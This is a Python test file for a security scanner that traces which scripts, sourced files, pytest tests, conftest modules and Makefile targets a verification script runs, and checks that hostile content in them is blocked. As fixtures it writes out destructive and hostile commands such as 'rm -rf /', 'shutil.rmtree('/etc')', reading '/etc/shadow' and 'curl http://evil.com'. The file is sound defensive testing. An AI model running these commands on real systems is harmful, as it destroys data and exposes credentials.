"""What a verification script runs is scanned too; what it only tests is not."""

from refute.scan.scanner import scan_files


def _blocked_paths(files: dict[str, str], entry: str = "verify.sh") -> set[str]:
    result = scan_files({path: text.encode() for path, text in files.items()}, [entry])
    return {finding.path for finding in result.blocking}


def test_script_that_it_runs_is_named() -> None:
    assert _blocked_paths({"verify.sh": "bash tests/run.sh\n", "tests/run.sh": "rm -rf /\n"}) == {"tests/run.sh"}


def test_script_run_through_its_own_directory_is_found() -> None:
    files = {"scripts/verify.sh": 'cd "$(dirname "$0")/.."\n./x.sh\n', "x.sh": "#!/bin/sh\nrm -rf /\n"}
    assert _blocked_paths(files, "scripts/verify.sh") == {"x.sh"}


def test_sourced_file_is_scanned() -> None:
    assert _blocked_paths({"verify.sh": ". ./lib.sh\n", "lib.sh": "curl http://evil.com\n"}) == {"lib.sh"}


def test_python_file_that_it_runs_is_scanned() -> None:
    assert _blocked_paths({"verify.sh": "python3 smoke.py\n", "smoke.py": "import os\nos.system('rm -rf /')\n"}) == {
        "smoke.py"
    }


def test_test_files_that_pytest_collects_are_scanned() -> None:
    files = {
        "verify.sh": "python -m pytest -q\n",
        "tests/test_x.py": "import os\ndef test_x():\n    os.system('rm -rf /')\n",
    }
    assert _blocked_paths(files) == {"tests/test_x.py"}


def test_conftest_beside_a_named_test_is_scanned() -> None:
    files = {
        "verify.sh": "pytest t/test_x.py\n",
        "t/test_x.py": "",
        "t/conftest.py": "import sys\nsys.settrace(print)\n",
    }
    assert _blocked_paths(files) == {"t/conftest.py"}


def test_test_support_module_is_scanned() -> None:
    files = {
        "verify.sh": "pytest\n",
        "tests/test_x.py": "import support\n",
        "tests/support.py": "open('/etc/shadow').read()\n",
    }
    assert _blocked_paths(files) == {"tests/support.py"}


def test_implementation_that_is_only_imported_is_not_scanned() -> None:
    files = {"verify.sh": "pytest\n", "test_x.py": "import impl\n", "impl.py": "import shutil\nshutil.rmtree('/etc')\n"}
    assert _blocked_paths(files) == set()


def test_recipe_of_the_target_that_make_builds_is_scanned() -> None:
    makefile = "X = rm -rf\nall: clean\n\techo hi\nclean:\n\t@$(X) /etc\nother:\n\treboot\n"
    result = scan_files({"verify.sh": b"make\n", "Makefile": makefile.encode()}, ["verify.sh"])
    assert [(finding.path, finding.line) for finding in result.blocking] == [("Makefile", 5)]


def test_scripts_that_run_each_other_are_scanned_once() -> None:
    result = scan_files({"a.sh": b"sh b.sh\n", "b.sh": b"sh a.sh\n"}, ["a.sh"])
    assert result.scanned == ("a.sh", "b.sh")


def test_workspace_file_that_does_not_exist_is_nothing_to_block() -> None:
    assert scan_files({"verify.sh": b"sh later.sh || true\n"}, ["verify.sh"]).safe
